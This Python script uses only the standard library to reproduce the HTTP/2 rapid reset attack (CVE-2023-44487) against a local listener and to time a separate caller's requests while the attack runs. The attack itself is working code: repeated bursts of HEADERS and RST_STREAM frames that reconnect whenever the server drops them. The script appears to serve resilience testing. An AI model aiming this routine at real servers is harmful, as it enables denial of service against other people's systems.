"""A rapid reset over HTTP/2 (CVE-2023-44487) on a listener of this machine, and what others meet meanwhile; standard library only.

  reset.py PORT PATH SECONDS ATTACKERS   prints fresh connections served, p50, p99 and the longest in microseconds, and the resets sent

An attacker opens streams and resets them at once, as fast as the socket takes them, and comes back on a new connection
whenever it is sent away. Beside them a caller opens one fresh connection after the other and asks for an answer.
"""

import multiprocessing
import os
import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS = 1, 3, 4
END_STREAM, END_HEADERS, ACK = 1, 4, 1
CANCEL = struct.pack(">I", 8)
BURST = 500


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    return bytes([0, len(name)]) + name + bytes([len(value)]) + value


def head(path):
    # Indexed :method GET and :scheme http, then two literals that are not indexed.
    return b"\x82\x86" + literal(b":path", path) + literal(b":authority", b"h")


def connect(port):
    opened = socket.create_connection(("127.0.0.1", port), timeout=5)
    opened.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    opened.sendall(PREFACE + frame(SETTINGS, 0, 0))
    return opened


def attack(port, fields, until, sent):
    # Attackers have machines of their own; here they must not keep the caller who measures from its turn.
    os.nice(10)
    while time.monotonic() < until:
        try:
            with connect(port) as attacker:
                stream = 1
                while time.monotonic() < until:
                    burst = b"".join(
                        frame(HEADERS, END_STREAM | END_HEADERS, n, fields) + frame(RST_STREAM, 0, n, CANCEL)
                        for n in range(stream, stream + 2 * BURST, 2)
                    )
                    attacker.sendall(burst)
                    stream += 2 * BURST
                    with sent.get_lock():
                        sent.value += BURST
        except OSError:
            pass


def exactly(opened, count):
    data = b""
    while len(data) < count:
        more = opened.recv(count - len(data))
        if not more:
            raise SystemExit("reset.py: a fresh connection was closed without an answer")
        data += more
    return data


def ask(port, fields):
    begun = time.monotonic_ns()
    with connect(port) as fresh:
        fresh.sendall(frame(SETTINGS, ACK, 0) + frame(HEADERS, END_STREAM | END_HEADERS, 1, fields))
        while True:
            start = exactly(fresh, 9)
            exactly(fresh, int.from_bytes(start[:3], "big"))
            if start[3] == HEADERS:
                return time.monotonic_ns() - begun


port, fields, seconds, attackers = int(sys.argv[1]), head(sys.argv[2].encode()), float(sys.argv[3]), int(sys.argv[4])
until = time.monotonic() + seconds
sent = multiprocessing.Value("q", 0)
several = [multiprocessing.Process(target=attack, args=(port, fields, until, sent)) for _ in range(attackers)]
for attacker in several:
    attacker.start()
times = []
while time.monotonic() < until:
    times.append(ask(port, fields))
    time.sleep(0.01)
for attacker in several:
    attacker.join()
times.sort()
print(len(times), times[len(times) // 2] // 1000, times[int(len(times) * 0.99)] // 1000, times[-1] // 1000, sent.value)
